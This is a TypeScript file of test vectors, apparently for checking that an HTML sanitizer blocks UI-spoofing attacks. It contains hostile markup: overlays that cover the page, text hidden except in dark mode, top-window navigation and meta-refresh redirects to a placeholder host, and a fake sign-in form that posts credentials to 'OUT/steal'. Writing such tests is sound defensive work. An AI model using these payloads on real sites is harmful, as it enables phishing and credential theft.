// Covering the page, hiding text, other windows (vectors 37 to 41).
import type { Vector } from './cry.ts';

export const spoofingVectors: Vector[] = [
  [
    '37 cover the page',
    '<style>:root,body{position:fixed!important;top:-500px;left:-500px;width:3000px;height:3000px;background:red;z-index:2147483647}</style><div style="position:fixed;inset:-999px;background:red;z-index:2147483647">x</div><div style="margin:-900px;width:3000px;height:3000px;background:red">y</div>',
  ],

  [
    '37 sticky and negative',
    '<style>html{position:fixed!important;inset:-400px!important;transform:scale(9)}</style><div style="position:sticky;top:-900px;left:-900px;z-index:9999;background:red;width:4000px;height:4000px">a</div><div style="margin-left:-9999px;margin-top:calc(0px - 900px);background:red;width:9999px;height:9999px">b</div><div style="transform:translate(-500px,-500px);background:red;width:900px;height:900px">c</div><dialog open style="position:fixed;inset:0;background:red">d</dialog><div popover style="background:red">e</div>',
  ],
  [
    '38 seen in the dark alone',
    '<style>.k{display:none}@media (prefers-color-scheme:dark){.k{display:block;position:fixed}}blockquote .k{display:block}</style><p class=k>kobold</p>',
  ],
  [
    '40 other windows',
    `<a target=_top href="OUT/top" autofocus>t</a><a target=_parent href="OUT/parent">p</a><a target=victim rel=opener href="OUT/w">w</a><base target=_top><form target=_top action="OUT/form"><input autofocus></form><meta http-equiv=refresh content="0;URL='OUT/mr'">`,
  ],
  [
    '41 a fake sign-in',
    `<div style="position:fixed;inset:0;background:#fff"><h1>Sign in again</h1><form action="OUT/steal"><input name=u><input type=password name=p><button type=submit>Sign in</button></form></div>`,
  ],
];
